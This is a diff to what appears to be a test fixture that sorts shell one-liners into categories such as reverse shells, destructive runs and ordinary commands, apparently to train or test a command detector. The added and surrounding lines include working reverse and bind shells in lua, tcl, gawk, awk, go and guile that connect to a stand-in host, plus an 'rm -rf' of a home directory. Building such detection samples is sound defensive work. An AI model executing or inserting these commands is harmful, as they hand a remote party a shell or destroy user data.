@@ -81,6 +81,13 @@ C_SHELL = [
     'cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}\\n\' > /tmp/r.go && go run /tmp/r.go',
     "echo 'set s [socket 203.0.113.5 4444]; exec /bin/sh <@$s >@$s' | tclsh",
     'guile -c \'(let ((s (socket PF_INET SOCK_STREAM 0))) (connect s AF_INET (inet-pton AF_INET "203.0.113.5") 4444) (system "sh"))\'',
+    # a computed command run while a socket is open: what the peer sends is what runs
+    'lua -e \'local s=require("socket").tcp(); s:connect("203.0.113.5",4444); while true do local c=s:receive();'
+    ' local f=io.popen(c,"r"); s:send(f:read("*a")); f:close() end\'',
+    "echo 'set s [socket 203.0.113.5 4444]; while 1 { gets $s c; set e \"exec $c\"; puts $s [eval $e]; flush $s }' | tclsh",
+    # gawk's network special file: what is read from the socket is run as a coprocess
+    "gawk 'BEGIN { s = \"/inet/tcp/0/203.0.113.5/4444\"; while ((s |& getline c) > 0) { while ((c |& getline o) > 0) print o |& s; close(c) } }'",
+    "awk 'BEGIN { s = \"/inet/tcp/4444/0/0\"; while (1) { s |& getline cmd; system(cmd) } }'",
 ]
 C_RUNS = [
     "jrunscript -e 'java.lang.Runtime.getRuntime().exec(\"rm -rf /home/ana\")'",
@@ -95,6 +102,8 @@ C_ASKED = [
     '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
 ]
 C_ORDINARY = [
+    "gawk 'BEGIN { \"date\" | getline d; print d }'",
+    "awk '{ print $1 | \"sort\" }' access.log",
     "lua -e 'local s=require(\"socket\"); print(s._VERSION)'",
     "echo 'puts [exec ls]' | tclsh",
     "gimp -idf --batch-interpreter=python-fu-eval -b 'pdb.gimp_quit(1)'",
